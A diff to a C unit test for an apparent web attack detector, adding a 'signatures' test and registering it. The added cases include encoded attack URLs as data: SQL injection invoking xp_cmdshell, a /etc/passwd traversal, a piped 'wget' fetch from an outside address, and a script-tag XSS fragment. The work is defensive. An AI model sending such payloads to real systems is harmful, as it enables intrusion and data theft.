@@ -101,6 +101,21 @@ static void log_escapes(void **state)
     assert_false(on_url("tld_sqli_url", "/s?q=C:\\\\temp\\\\x"));
 }
 
+/* The signature list: matched on the decoded URL whatever the case and encoding. */
+static void signatures(void **state)
+{
+    (void)state;
+    assert_true(on_url("tld_sqli_url", "/x?q=%49NFORMATION%5FSCHEMA"));
+    assert_true(on_url("tld_sqli_url", "/x?q=1;EXEC%2520master..XP_CMDSHELL"));
+    assert_true(on_url("tld_common_attack_url", "/x?f=%2FETC%2Fpasswd"));
+    assert_true(on_url("tld_cmdi_url", "/x?h=a%7Cwget+http://203.0.113.9/x"));
+    assert_true(on_url("tld_xss_url", "/x?q=%3CSCRIPT"));
+    /* the same words outside the idiom */
+    assert_false(on_url("tld_sqli_url", "/docs/information-schema-guide?page=2"));
+    assert_false(on_url("tld_cmdi_url", "/x?q=wget+vs+curl"));
+    assert_false(on_url("tld_xss_url", "/x?q=script+writing"));
+}
+
 static void bounds(void **state)
 {
     (void)state;
@@ -128,7 +143,8 @@ int main(void)
     const struct CMUnitTest tests[] = {
         cmocka_unit_test(names_resolve), cmocka_unit_test(sqli),
         cmocka_unit_test(xss),           cmocka_unit_test(traversal_and_cmdi),
-        cmocka_unit_test(log_escapes),   cmocka_unit_test(bounds),
+        cmocka_unit_test(log_escapes),   cmocka_unit_test(signatures),
+        cmocka_unit_test(bounds),
     };
     return cmocka_run_group_tests(tests, NULL, NULL);
 }
